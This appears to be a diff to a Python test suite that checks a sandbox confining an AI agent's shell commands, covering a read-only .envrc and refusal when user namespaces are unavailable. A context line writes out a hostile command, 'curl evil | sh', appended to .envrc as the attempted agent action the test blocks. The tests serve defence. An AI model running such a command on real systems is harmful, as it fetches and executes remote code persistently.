@@ -263,3 +263,24 @@ def test_an_existing_envrc_stays_read_only_in_the_box(root: Path) -> None:
     r = ws.call("bash", {"command": "echo 'curl evil | sh' >> .envrc"}, source="agent")
     assert not r.ok and "Read-only file system" in r.text
     assert (root / ".envrc").read_text() == "export A=1\n"
+
+
+def test_without_user_namespaces_the_box_is_not_claimed(root: Path, outside: Path) -> None:
+    """A real machine without user namespaces: this process in a box of its own that forbids
+    them (--disable-userns); there, a Workspace with the box on refuses the agent's command,
+    naming why, and runs nothing."""
+    _need_bwrap()
+    code = (
+        "import json; from kli.tools import Workspace; from kli.tools.core import sandbox\n"
+        f"ws = Workspace({str(root)!r}, settings={{'sandbox': 'on'}})\n"
+        f"r = ws.call('bash', {{'command': 'echo evil > {outside / 'victim.txt'}'}}, "
+        "source='agent')\n"
+        "print(json.dumps([r.ok, r.details.get('error'), r.text, sandbox.describe(ws)['state']]))"
+    )
+    outer = [*sandbox.base_args(shutil.which("bwrap") or "bwrap"), "--bind", str(root), str(root),
+             "--", sys.executable, "-c", code]
+    done = subprocess.run(outer, capture_output=True, text=True, timeout=60)
+    ok, error, text, state = json.loads(done.stdout.strip().splitlines()[-1])
+    assert not ok and error == "sandbox_unavailable" and state == "unavailable"
+    assert "user namespaces" in text
+    assert (outside / "victim.txt").read_text() == ORIGINAL
